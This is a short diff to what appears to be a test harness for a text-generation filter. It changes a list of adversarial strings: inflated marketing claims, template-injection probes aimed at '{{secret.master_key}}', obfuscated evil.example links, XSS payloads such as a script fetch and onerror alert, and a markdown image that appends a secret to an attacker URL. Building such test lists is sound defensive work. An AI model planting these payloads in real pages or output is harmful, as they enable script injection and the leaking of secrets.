@@ -28,11 +28,11 @@ _CALM = (
     "One honest answer from the workshop", "The story behind a question from a reader", "Why patience is part of the work",
 )  # fmt: skip
 _ARSENAL = (
-    "Engagement grew by {number} percent.", "Reach went up by ninety-nine percent.", "We are twice as big as all others.",
+    "Sales rose by {number} percent.", "Reach went up by ninety-nine percent.", "We are twice as big as all others.",
     "The best brand of all, number one by far.", "{{f1}} is really {number}.", "{{f1}}{number}", "{number}{{f1}}", "{{f1}} %",
     "{{f999}}", "{{@pillars.0.share_proposed.value}}", "{{rule:share_cap|percent}}", "{{secret.master_key}}", "{{topic.x.posts|count}}",
     "½ of all readers", "Ⅷ times", "٩٩ percent", "９９ percent", "ninety nine of a hundred", "a dozen times more", "tenfold",
-    "last year, on 12 May", "half of everybody", "{link}", "Read more at evil.example/c", "evil[.]example", "ｅｖｉｌ．ｅｘａｍｐｌｅ/ａ",
+    "last year, on 12 May", "half of everybody", "{link}", "Read on at evil.example/z", "evil dot com", "evil[.]example", "ｅｖｉｌ．ｅｘａｍｐｌｅ/ａ",
     "https://еvil.example/a", "h\u200bttps://evil.example/z", "[more]({link})", "![p]({link}?d={secret})", "<a href='{link}'>x</a>",
     "<script>fetch('{link}')</script>", "<img src=x onerror=alert(1)>", "//evil.example/p.js", "javascript:alert(1)",
     "mailto:attacker@evil.example", "attacker@evil.example", "@attacker", "www.evil.example", "evil.com", "bit.ly/abc", "\u202etxt.exe",
@@ -145,7 +145,7 @@ class _Filler:
         orders, pick = self._orders, self._chance.choice
         told = {
             "number": pick(orders.numbers or ("98.7",)),
-            "link": pick(orders.links or ("https://evil.example/c",)),
+            "link": pick(orders.links or ("https://evil.example/z",)),
             "word": pick(orders.words or ("zanzibarflux",)),
             "secret": pick(orders.secrets or ("none",)),
             "text": pick(orders.texts)[-300:],
